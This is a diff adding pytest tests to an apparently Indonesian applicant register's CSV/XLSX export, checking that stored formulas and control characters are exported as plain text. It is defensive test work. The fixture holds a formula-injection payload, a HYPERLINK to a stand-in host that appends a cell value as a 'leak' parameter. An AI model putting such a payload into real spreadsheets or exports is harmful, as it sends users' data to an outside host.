@@ -64,6 +64,34 @@ def test_register_xlsx_reads_back_with_a_bold_frozen_header_and_real_dates(regis
     assert isinstance(rows[0][1], dt.datetime) and rows[0][1] == first.received_at
 
 
+FORMULA = '=HYPERLINK("http://contoh.test/?leak="&C2,"Klik")'
+
+
+@pytest.fixture
+def hostile(store):
+    """A file whose stored texts an export must not pass on as they are: a formula as the work unit and a
+    name with control characters (data written before validation refused them)."""
+    app = services.submit(store, application_input(nip="19700101 199503 2 001"))
+    Applicant.update(work_unit=FORMULA, name="Hasan\x07 Tuasikal\x1b").where(
+        Applicant.id == app.applicant_id).execute()
+    return app
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_a_stored_formula_or_control_character_reaches_the_export_as_plain_text(hostile, tmp_path, suffix):
+    out = tmp_path / f"register{suffix}"
+    assert exports.export_register(rq.RegisterFilter(), out) == 1
+    if suffix == ".csv":
+        [_header, line] = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
+        name, work_unit = line[2], line[4]
+    else:
+        cells = list(openpyxl.load_workbook(out).active.iter_rows(min_row=2))[0]
+        assert cells[4].data_type == "s"  # text, never a formula Excel would run
+        name, work_unit = cells[2].value, cells[4].value
+    assert work_unit == "'" + FORMULA  # OWASP: a leading quote makes a spreadsheet show it as text
+    assert name == "Hasan Tuasikal"
+
+
 def test_register_export_refuses_a_format_it_cannot_write(register, tmp_path):
     with pytest.raises(ValidationError):
         exports.export_register(rq.RegisterFilter(), tmp_path / "register.pdf")
